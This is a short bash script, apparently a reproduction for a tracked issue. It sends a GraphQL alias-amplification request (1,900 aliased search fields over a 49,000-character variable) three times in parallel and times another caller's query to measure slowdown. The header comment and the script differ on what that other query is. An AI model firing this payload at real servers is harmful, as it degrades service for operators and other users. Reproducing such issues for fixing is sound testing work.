#!/usr/bin/env bash
# The amplification request of issue 16 against a running server: 1,900 aliases of
# creatorProfiles(first: 1, filter: {search: $s}) with a 49,000-character $s, timed with curl,
# while another caller's `{ __typename }` is timed during it.
set -euo pipefail
URL=${1:?url}; TOKEN=${2:?token}
python3 - > /tmp/amplification.json <<'PY'
import json
fields = " ".join(f"a{i}: creatorProfiles(first: 1, filter: {{search: $s}}) {{ totalCount }}" for i in range(1900))
print(json.dumps({"query": f"query($s: String) {{ {fields} }}", "variables": {"s": "x" * 49000}}))
PY
for i in 1 2 3; do
  curl -s -o /tmp/amp-out.json -w "amplification: %{http_code} in %{time_total}s\n" \
    -H "authorization: Bearer $TOKEN" -H 'content-type: application/json' \
    --data-binary @/tmp/amplification.json "$URL" &
done
curl -s -o /dev/null -w "other caller: %{http_code} in %{time_total}s\n" \
  -H "authorization: Bearer $TOKEN" -H 'content-type: application/json' \
  --data '{"query":"{ creatorProfiles(first: 5) { totalCount } }"}' "$URL"
wait
head -c 300 /tmp/amp-out.json; echo
